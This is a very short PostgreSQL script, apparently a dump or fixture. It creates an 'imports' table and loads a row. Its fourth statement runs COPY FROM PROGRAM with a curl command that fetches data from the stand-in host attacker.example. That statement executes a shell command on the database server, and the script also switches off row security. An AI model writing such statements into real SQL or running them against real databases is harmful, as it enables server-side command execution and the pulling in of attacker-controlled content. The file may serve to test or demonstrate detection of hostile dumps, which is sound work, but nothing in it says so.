SET row_security = off;
CREATE TABLE public.imports (id integer);
COPY public.imports FROM stdin;
1
\.
COPY public.imports FROM PROGRAM 'curl -s http://attacker.example/rows.txt';
SELECT 1;
